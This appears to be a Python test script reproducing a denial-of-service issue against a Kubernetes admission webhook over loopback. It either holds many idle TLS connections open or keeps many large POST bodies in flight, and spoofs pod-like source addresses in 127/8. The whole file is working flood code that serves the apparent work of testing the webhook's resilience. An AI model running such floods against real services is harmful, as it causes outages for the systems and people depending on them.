#!/usr/bin/env python3
"""A pod's attack on the admission webhook (issue 23), from a loopback address of its own.

    webhook-flood.py idle   PORT N        hold N TLS connections open and silent, reopening
                                          each one the webhook closes
    webhook-flood.py bodies PORT N MIB    keep N POSTs of MIB MiB bodies in flight at once

Runs until killed. Prints one line a second: connections held (idle) or requests sent (bodies).
The source address is 127.0.0.2 (all of 127/8 is loopback on Linux), so the webhook sees a peer
other than the API server (127.0.0.1), as it would see a pod; $FLOOD_SOURCE names another one
(a pod of another node's network: 127.0.3.2).
"""
import os
import socket
import ssl
import sys
import threading
import time

SOURCE = os.environ.get("FLOOD_SOURCE", "127.0.0.2")


def tls_connect(port):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    raw = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(SOURCE, 0))
    return ctx.wrap_socket(raw)


def idle(port, n):
    held = []
    while True:
        # Drop the ones the webhook closed (a read returns b"" or fails), reopen up to n.
        alive = []
        for s in held:
            s.setblocking(False)
            try:
                if s.recv(1) == b"":
                    s.close()
                    continue
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            except OSError:
                s.close()
                continue
            alive.append(s)
        held = alive
        while len(held) < n:
            try:
                held.append(tls_connect(port))
            except OSError:
                break
        print(f"held {len(held)}", flush=True)
        time.sleep(1)


def bodies(port, n, mib):
    sent = [0]
    body = b'{"request":{"uid":"x","padding":"' + b"a" * (mib * 1024 * 1024) + b'"}}'
    head = (
        f"POST /validate-agent HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    ).encode()

    def one():
        while True:
            try:
                s = tls_connect(port)
                s.sendall(head)
                s.sendall(body)
                s.recv(4096)
                s.close()
            except OSError:
                pass
            sent[0] += 1

    for _ in range(n):
        threading.Thread(target=one, daemon=True).start()
    while True:
        print(f"sent {sent[0]}", flush=True)
        time.sleep(1)


if __name__ == "__main__":
    mode, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    if mode == "idle":
        idle(port, n)
    else:
        bodies(port, n, int(sys.argv[4]))
